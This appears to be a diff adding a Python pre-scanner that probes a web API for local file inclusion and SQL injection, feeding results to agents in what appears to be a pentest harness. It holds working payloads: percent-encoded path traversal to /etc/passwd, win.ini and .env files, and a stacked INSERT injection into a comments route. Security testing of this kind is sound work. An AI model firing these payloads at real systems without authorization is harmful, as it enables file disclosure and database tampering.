@@ -0,0 +1,195 @@
+import asyncio
+import re
+import time
+import uuid
+from dataclasses import dataclass, field
+from enum import StrEnum
+from http import HTTPStatus
+from urllib.parse import quote, urljoin
+
+import httpx
+from loguru import logger
+
+# Path traversal payloads relative to the image folder, all slashes percent-encoded so neither the HTTP client
+# nor proxies normalize the dot segments away before they reach the route.
+TRAVERSAL_PAYLOADS = [
+    *(quote("../" * depth + "etc/passwd", safe="") for depth in (1, 2, 3, 4, 6, 8)),
+    quote("....//" * 6 + "etc/passwd", safe=""),
+    quote("/etc/passwd", safe=""),
+    *(quote("..\\" * depth + "windows\\win.ini", safe="") for depth in (2, 4, 6)),
+]
+
+# Files that sit next to the images but are not listed, reading one of them is already a disclosure.
+HIDDEN_FILES = ["secrets.txt", "secret.txt", ".env", "config.py", "../main.py", "../.env"]
+
+# Response oracles: content that can only come from the file we asked for.
+FILE_ORACLES = [
+    re.compile(rb"root:[^:\n]*:0:0:"),
+    re.compile(rb"\[(fonts|extensions)\]", re.IGNORECASE),
+    re.compile(rb"(?i)(secret|password|api[_-]?key|token)\s*[:=]"),
+    re.compile(rb"from fastapi import"),
+]
+
+SQL_ERROR_ORACLE = re.compile(r"(?i)(database error|syntax error|unrecognized token|incomplete input|sqlite)")
+
+
+class ScanStatus(StrEnum):
+    """Verdict of a fast-path scan, inconclusive ones go to the agents."""
+
+    CONFIRMED = "confirmed"
+    NOT_VULNERABLE = "not_vulnerable"
+    INCONCLUSIVE = "inconclusive"
+
+
+@dataclass
+class ScanFinding:
+    """Outcome of the fast-path scan of one vulnerability class."""
+
+    vuln_class: str
+    status: ScanStatus = ScanStatus.INCONCLUSIVE
+    evidence: list[str] = field(default_factory=list)
+    requests: int = 0
+    seconds: float = 0.0
+
+    def summary(self) -> str:
+        """A summary in the shape of an agent answer, so it can replace the agent run."""
+        verdict = "VULNERABLE" if self.status is ScanStatus.CONFIRMED else "NOT VULNERABLE"
+        evidence = "\n".join(f"- {line}" for line in self.evidence) or "- none"
+        return (
+            f"Deterministic {self.vuln_class.upper()} scan ({self.requests} requests, {self.seconds:.2f}s): "
+            f"{self.status.value}.\nEvidence:\n{evidence}\nVERDICT: {verdict}"
+        )
+
+
+class FastScanner:
+    """HTTP-only pre-scan for LFI and SQL injection on the backend API.
+
+    It crawls `/images`, then sends the payload corpus concurrently over one pooled connection set and confirms
+    hits with response oracles. Payloads are non-destructive: SQL injection is confirmed by injecting a second
+    INSERT of a random canary and reading it back, never by dropping anything.
+    Classes it cannot decide are reported as inconclusive and left to the computer-use agents.
+    """
+
+    def __init__(
+        self,
+        api_url: str,
+        concurrency: int = 16,
+        timeout: float = 5.0,
+        transport: httpx.AsyncBaseTransport | None = None,
+    ):
+        self.api_url = api_url if api_url.endswith("/") else api_url + "/"
+        self.concurrency = concurrency
+        self.timeout = timeout
+        # E.g. an httpx.ASGITransport, to scan an app in-process without a server
+        self.transport = transport
+        self._semaphore = asyncio.Semaphore(concurrency)
+        self._client: httpx.AsyncClient | None = None
+
+    async def scan(self) -> dict[str, ScanFinding]:
+        """Scans both classes, keyed "lfi" and "sqli". Both are inconclusive when the API cannot be crawled."""
+        limits = httpx.Limits(max_connections=self.concurrency, max_keepalive_connections=self.concurrency)
+        async with httpx.AsyncClient(limits=limits, timeout=self.timeout, transport=self.transport) as self._client:
+            try:
+                images = await self._crawl_images()
+            except httpx.HTTPError as e:
+                logger.warning("Fast scan could not crawl {}: {}", self.api_url, e)
+                return {"lfi": ScanFinding("lfi"), "sqli": ScanFinding("sqli")}
+            lfi, sqli = await asyncio.gather(self._scan_lfi(images), self._scan_sqli())
+        self._client = None
+        return {"lfi": lfi, "sqli": sqli}
+
+    async def _request(self, method: str, path: str, **kwargs) -> httpx.Response:
+        if self._client is None:
+            raise RuntimeError("Requests can only be sent while scan() is running.")
+        async with self._semaphore:
+            return await self._client.request(method, urljoin(self.api_url, path), **kwargs)
+
+    async def _crawl_images(self) -> list[str]:
+        response = await self._request("GET", "images")
+        response.raise_for_status()
+        return [name for name in response.json().get("images", []) if isinstance(name, str)]
+
+    async def _scan_lfi(self, images: list[str]) -> ScanFinding:
+        finding = ScanFinding("lfi")
+        started = time.perf_counter()
+        probes = [f"images/{payload}" for payload in TRAVERSAL_PAYLOADS]
+        probes += [f"images/{quote(name, safe='')}" for name in HIDDEN_FILES]
+        if images:
+            # The image route resolving dot segments itself is a strong hint even when no known file is readable
+            probes.append(f"images/{quote('ohacker-missing/../' + images[0], safe='')}")
+
+        responses = await asyncio.gather(*(self._request("GET", probe) for probe in probes), return_exceptions=True)
+        finding.requests = len(probes)
+        resolves_dot_segments = False
+        for probe, response in zip(probes, responses, strict=True):
+            if isinstance(response, BaseException) or response.status_code != HTTPStatus.OK:
+                continue
+            if any(oracle.search(response.content) for oracle in FILE_ORACLES):
+                finding.evidence.append(f"GET /{probe} returned the file content ({len(response.content)} bytes)")
+            elif "ohacker-missing" in probe:
+                resolves_dot_segments = True
+
+        if finding.evidence:
+            finding.status = ScanStatus.CONFIRMED
+        elif resolves_dot_segments:
+            finding.evidence.append("The image route resolves '..' segments, but no known file could be read")
+        elif all(isinstance(r, httpx.Response) and r.status_code in (400, 403, 404) for r in responses):
+            finding.status = ScanStatus.NOT_VULNERABLE
+        finding.seconds = time.perf_counter() - started
+        return finding
+
+    async def _scan_sqli(self) -> ScanFinding:
+        finding = ScanFinding("sqli")
+        started = time.perf_counter()
+        canary = uuid.uuid4().hex
+        # Dedicated image names, so the probe rows never show up under real images
+        probe_image = f"ohacker-probe-{canary[:12]}"
+        stacked = f"x'); INSERT INTO comments (image_name, comment_text) VALUES ('{probe_image}', '{canary}'); --"  # noqa: S608 - the probe
+
+        error_response, stacked_response = await asyncio.gather(
+            self._request("POST", f"comments/{probe_image}", json={"comment_text": "x'"}),
+            self._request("POST", f"comments/{probe_image}", json={"comment_text": stacked}),
+            return_exceptions=True,
+        )
+        finding.requests = 3
+        try:
+            comments_response = await self._request("GET", f"comments/{probe_image}")
+            comments = comments_response.json().get("comments", [])
+        except (httpx.HTTPError, ValueError) as e:
+            logger.debug("Fast scan could not read the probe comments: {}", e)
+            comments = []
+
+        if any(comment.get("comment_text") == canary for comment in comments):
+            finding.status = ScanStatus.CONFIRMED
+            finding.evidence.append(
+                f"A stacked INSERT sent in comment_text of POST /comments/{probe_image} was executed"
+            )
+        if (
+            isinstance(error_response, httpx.Response)
+            and error_response.status_code >= HTTPStatus.INTERNAL_SERVER_ERROR
+            and SQL_ERROR_ORACLE.search(error_response.text)
+        ):
+            finding.evidence.append(
+                f"A single quote in comment_text causes a database error: {error_response.text[:200]}"
+            )
+        if finding.status is not ScanStatus.CONFIRMED and isinstance(stacked_response, httpx.Response):
+            stored = any(comment.get("comment_text") == stacked for comment in comments)
+            if stored and not finding.evidence:
+                # The payload was stored verbatim and nothing broke: the query is parameterized
+                finding.status = ScanStatus.NOT_VULNERABLE
+        finding.seconds = time.perf_counter() - started
+        return finding
+
+
+async def prescan(api_url: str, concurrency: int = 16) -> dict[str, ScanFinding]:
+    """Runs the fast-path scan and logs its outcome. Keys are vulnerability classes ("lfi", "sqli")."""
+    findings = await FastScanner(api_url, concurrency=concurrency).scan()
+    for finding in findings.values():
+        logger.info(
+            "Fast scan {}: {} in {:.2f}s ({} requests)",
+            finding.vuln_class,
+            finding.status.value,
+            finding.seconds,
+            finding.requests,
+        )
+    return findings